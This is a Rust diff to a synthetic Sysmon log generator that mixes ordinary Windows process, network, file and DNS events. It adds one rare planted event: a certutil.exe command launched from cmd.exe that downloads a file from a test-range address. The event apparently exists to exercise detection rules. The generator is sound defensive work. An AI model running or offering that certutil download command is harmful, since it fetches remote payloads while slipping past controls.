@@ -4,29 +4,61 @@ use serde_json::{Value, json};
 
 use super::random::Random;
 
-/// Image, and a command line that it is ordinarily started with.
-const PROGRAMS: [(&str, &str); 5] = [
-    (r"C:\Program Files\Mozilla Firefox\firefox.exe", r#""firefox.exe" -contentproc -childID"#),
-    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r#""OUTLOOK.EXE" /recycle"#),
-    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\svchost.exe -k netsvcs -p -s"),
+/// Image, a command line that it is ordinarily started with, and what starts it.
+const PROGRAMS: [(&str, &str, &str); 5] = [
+    (
+        r"C:\Program Files\Mozilla Firefox\firefox.exe",
+        r#""C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc -childID"#,
+        r"C:\Program Files\Mozilla Firefox\firefox.exe",
+    ),
+    (
+        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
+        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#,
+        r"C:\Windows\explorer.exe",
+    ),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        r"C:\Windows\System32\svchost.exe -k netsvcs -p -s",
+        r"C:\Windows\System32\services.exe",
+    ),
     (
         r"C:\Windows\System32\notepad.exe",
         r#""C:\Windows\System32\notepad.exe" C:\Users\Public\notes"#,
+        r"C:\Windows\explorer.exe",
     ),
-    (r"C:\Windows\System32\SearchIndexer.exe", r"C:\Windows\System32\SearchIndexer.exe /Embedding"),
+    (
+        r"C:\Windows\System32\SearchIndexer.exe",
+        r"C:\Windows\System32\SearchIndexer.exe /Embedding",
+        r"C:\Windows\System32\services.exe",
+    ),
 ];
 
 const NAMES: [&str; 4] =
     ["www.example.com", "cdn.example.net", "mail.corp.test", "files.corp.test"];
 
+/// The one among them that goes out.
+const BROWSER: &str = PROGRAMS[0].0;
+
+/// What no workplace does by itself, and rules of ours and of others look for.
+const DOWNLOAD: (&str, &str, &str) = (
+    r"C:\Windows\System32\certutil.exe",
+    r"certutil.exe -urlcache -split -f http://198.18.1.1/a.txt C:\Users\Public\a.txt",
+    r"C:\Windows\System32\cmd.exe",
+);
+
+/// One record in a thousand of all sources is such a download; four tenths of all are Sysmon's.
+const DOWNLOAD_ONE_IN: u64 = 400;
+
 pub(super) fn line(random: &mut Random, time: &str) -> String {
-    let (image, command) = random.pick(&PROGRAMS);
+    let is_download = random.below(DOWNLOAD_ONE_IN) == 0;
+    let (program, command, parent) = if is_download { DOWNLOAD } else { random.pick(&PROGRAMS) };
     let user = format!("CORP\\user{:02}", random.below(60));
-    let (id, mut data) = match random.below(10) {
-        0..4 => (1, process(random, command)),
-        4..7 => (3, connection(random)),
-        7..9 => (11, file(random)),
-        _ => (22, name(random)),
+    let (id, image, mut data) = match random.below(10) {
+        _ if is_download => (1, program, process(random, command, parent, &user)),
+        0..4 => (1, program, process(random, command, parent, &user)),
+        4..7 => (3, BROWSER, connection(random)),
+        7..9 => (11, program, file(random)),
+        _ => (22, BROWSER, name(random)),
     };
     if let Some(data) = data.as_object_mut() {
         data.insert("UtcTime".to_owned(), time.replace('T', " ").into());
@@ -55,7 +87,7 @@ pub(super) fn line(random: &mut Random, time: &str) -> String {
     .to_string()
 }
 
-fn process(random: &mut Random, command: &str) -> Value {
+fn process(random: &mut Random, command: &str, parent: &str, user: &str) -> Value {
     json!({
         "RuleName": "-", "FileVersion": "10.0.26100.1", "Description": "-", "Product": "-",
         "Company": "-", "OriginalFileName": "-", "CurrentDirectory": r"C:\Windows\System32\",
@@ -63,8 +95,8 @@ fn process(random: &mut Random, command: &str) -> Value {
         "LogonGuid": random.guid(), "LogonId": "0x3e7a1", "TerminalSessionId": 1,
         "IntegrityLevel": "Medium", "Hashes": format!("SHA256={}", random.hex(64)),
         "ParentProcessGuid": random.guid(), "ParentProcessId": random.between(400, 30_000),
-        "ParentImage": r"C:\Windows\explorer.exe", "ParentCommandLine": r"C:\Windows\Explorer.EXE",
-        "ParentUser": "CORP\\user01",
+        "ParentImage": parent, "ParentCommandLine": parent,
+        "ParentUser": user,
     })
 }
 
